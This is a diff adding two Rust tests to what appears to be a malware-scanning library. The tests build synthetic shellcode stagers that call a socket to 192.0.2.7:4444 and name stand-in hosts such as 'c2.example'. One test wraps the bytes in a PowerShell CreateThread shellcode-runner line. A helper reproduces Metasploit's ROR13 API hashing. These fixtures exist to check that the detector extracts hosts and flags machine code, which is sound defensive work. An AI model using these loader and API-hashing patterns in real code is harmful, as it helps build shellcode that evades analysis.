@@ -192,3 +192,64 @@ fn a_script_that_runs_code_is_judged_by_whom_the_code_calls() {
             .any(|finding| finding.code == "script.code-calls")
     );
 }
+
+#[test]
+fn code_whose_reading_stops_is_searched_for_whom_it_names() {
+    // A floating-point store, which no reading goes beyond, before the call.
+    let mut code = stager(&[0xdd, 0x1c, 0x24]);
+    code.extend(socket(0x6174_a599, [192, 0, 2, 7], 4444));
+    code.extend(b"\0http://c2.example/x\0back.example\0");
+    let read = reading(&code);
+    assert!(!read.is_code());
+    assert_eq!(
+        read.plain,
+        ["http://c2.example/x", "back.example", "192.0.2.7:4444"]
+    );
+    let bytes: Vec<String> = code.iter().map(|byte| format!("0x{byte:02x}")).collect();
+    let script = format!("[Byte[]]$z = {};$w::CreateThread(0,0,$z,0,0,0)", bytes.join(","));
+    let report = strongroom_files::examine("a.ps1", script.as_bytes(), &Limits::default());
+    assert!(
+        report
+            .gaps
+            .iter()
+            .any(|gap| gap.hides && gap.why.contains("machine code"))
+    );
+    let named: Vec<&str> = report
+        .observables
+        .iter()
+        .map(|seen| seen.observable.value())
+        .collect();
+    for name in ["back.example", "http://c2.example/x", "192.0.2.7:4444"] {
+        assert!(named.contains(&name), "{named:?}");
+    }
+    assert!(reading(&reverse()).plain.is_empty());
+}
+
+#[test]
+fn calls_that_copy_much_use_the_steps_up() {
+    // push 0x2000; push 1; push where the code lies; push the hash of memset …, again and again.
+    let mut body = vec![0xe8, 0, 0, 0, 0, 0x5f]; // call +0; pop edi
+    let top = body.len();
+    body.extend([0x68, 0, 0x20, 0, 0, 0x6a, 1, 0x57]);
+    body.extend(call(memset()));
+    body.extend([0x83, 0xc4, 12]); // the caller takes the arguments off
+    let back = i8::try_from(top as i64 - (body.len() as i64 + 2)).unwrap();
+    body.extend([0xeb, back as u8]);
+    let begun = std::time::Instant::now();
+    let read = reading(&stager(&body));
+    assert_eq!(read.calls.len(), 1, "{read:?}");
+    assert!(read.stopped.unwrap().contains("steps"));
+    assert!(begun.elapsed().as_secs() < 20);
+}
+
+/// The hash of `memset`, as Metasploit's `block_api` counts it: both names, rotated by 13 bits and summed up.
+fn memset() -> u32 {
+    let rotated = |hash: u32, byte: u8| hash.rotate_right(13).wrapping_add(u32::from(byte));
+    let wide = b"MSVCRT.DLL\0"
+        .iter()
+        .fold(0, |hash, byte| rotated(rotated(hash, *byte), 0));
+    b"memset\0"
+        .iter()
+        .fold(0, |hash, byte| rotated(hash, *byte))
+        .wrapping_add(wide)
+}
